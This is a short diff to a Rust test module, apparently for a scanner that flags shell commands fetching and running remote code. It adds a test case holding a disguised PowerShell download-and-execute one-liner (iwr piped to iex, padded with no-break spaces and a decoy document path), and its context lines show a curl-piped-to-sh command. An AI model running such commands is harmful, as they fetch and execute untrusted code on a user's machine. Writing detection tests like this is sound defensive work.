@@ -2415,6 +2415,12 @@ mod tests {
             Lang::Shell,
             "exec/fetched"
         ));
+        // A FileFix pads the command with no-break spaces after its closing quote.
+        assert!(has(
+            "powershell -w h -nop -c \"iwr -useb http://203.0.113.17/r.ps1 | iex\"\u{a0} \u{a0} \u{a0} # C:\\Reports\\Q3.docx",
+            Lang::Shell,
+            "exec/fetched"
+        ));
         // `-s` reads the script from the pipe; what follows are its arguments.
         assert!(has(
             "curl -fsSL https://mirror.example/boot | /bin/sh -s -- --plugins go --prefix ~/.local",
